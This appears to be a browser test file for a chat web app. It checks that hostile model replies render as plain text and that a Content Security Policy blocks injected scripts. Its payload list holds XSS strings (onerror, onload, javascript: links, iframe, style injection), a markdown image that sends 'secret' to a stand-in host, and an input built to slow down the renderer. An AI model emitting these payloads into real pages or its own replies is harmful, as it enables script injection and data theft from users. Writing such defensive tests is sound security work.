import type { Page } from "playwright-core";
import { expect, it } from "vitest";
import { answerOf, describePage, say } from "../../support/chat-page.ts";

const hostile = [
  `<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>`,
  "[a link](javascript:document.title='owned') [data](data:text/html,owned) [vb](vbscript:x) <javascript:alert(1)>",
  "![secret](https://elsewhere.example/?q=secret) ![ref][r] [![both](https://elsewhere.example/z.png)](https://elsewhere.example)",
  '<svg onload=alert(1)> <a href="javascript:alert(1)">x</a> <iframe src=https://elsewhere.example></iframe>',
  "<style>*{display:none}</style>",
  "[r]: https://elsewhere.example/y.png",
  "| a | b |\n|---|---|\n| <b onclick=alert(1)>c</b> | `<img src=y>` |",
  "[fine](https://example.com/) and https://example.com/auto",
].join("\n\n");

/** As if the model had written this, and its user had asked it. */
async function answeredWith(page: Page, text: string): Promise<void> {
  await page.route("**/turns?**", async (route) => {
    const response = await route.fetch();
    const list = (await response.json()) as { data: { reply: unknown; messages: { content: string }[] }[] };
    for (const turn of list.data) {
      turn.reply = typeof turn.reply === "string" ? text : { role: "assistant", content: text };
      turn.messages[0]!.content = text;
    }
    await route.fulfill({ response, json: list });
  });
  await page.reload();
}

describePage("A11: the chat page and a hostile model", "tiny", (chat) => {
  it("what it writes stays text: no element, no request, no script", async () => {
    const { page, said } = await chat.visit();
    await say(page, "Hello!");
    await answeredWith(page, hostile);
    const prose = answerOf(page, 0);
    await prose.getByText("onerror").first().waitFor();
    const text = (await prose.textContent())!;
    for (const part of [
      "<img src=x onerror",
      "<script>",
      "![secret](https://elsewhere.example/?q=secret)",
      "<svg onload=alert(1)>",
      "<iframe",
      "<style>",
      "<b onclick=alert(1)>",
    ])
      expect(text).toContain(part);
    expect(await prose.locator("img, svg:not(.icon), script, iframe, style, object, embed, form, b").count()).toBe(0);
    const links = await prose
      .locator("a")
      .evaluateAll((all) => all.map((link) => ({ href: link.getAttribute("href"), rel: link.getAttribute("rel") })));
    expect(links.map(({ href }) => href)).toEqual([
      "https://elsewhere.example",
      "https://example.com/",
      "https://example.com/auto",
    ]);
    for (const { rel } of links) expect(rel).toContain("noopener");
    await page.getByText("a link", { exact: true }).click();
    expect(await page.title()).toBe("Rivulet");
    expect(said).toEqual([]);
  });

  it("what was made to take long is shown, what is beyond the budget as it was written", async () => {
    const { page } = await chat.visit();
    await say(page, "Hello!");
    const long = `**begins**\n\n${"> - ".repeat(8)}deep\n\n${">".repeat(30_000)}\n${"*a_".repeat(30_000)} the end`;
    await answeredWith(page, long);
    const prose = answerOf(page, 0);
    await prose.getByText("the end").waitFor();
    expect(await prose.locator("strong").textContent()).toBe("begins");
    expect(await prose.textContent()).toContain("*a_*a_*a_ the end");
    const made = await prose.locator("*").count();
    expect(made).toBeGreaterThan(15);
    expect(made).toBeLessThan(200);
  });

  it("a policy stands behind it: a script that got in would not run, and a picture would not load", async () => {
    const { page, said } = await chat.visit();
    await page.evaluate(`{
      const script = document.createElement("script");
      script.textContent = "document.title = 'owned'";
      const picture = document.createElement("img");
      picture.src = "https://elsewhere.example/?q=secret";
      document.body.append(script, picture);
    }`);
    await expect.poll(() => said.filter((line) => line.includes("Content Security Policy")).length).toBe(2);
    expect(await page.title()).toBe("Rivulet");
  });
});
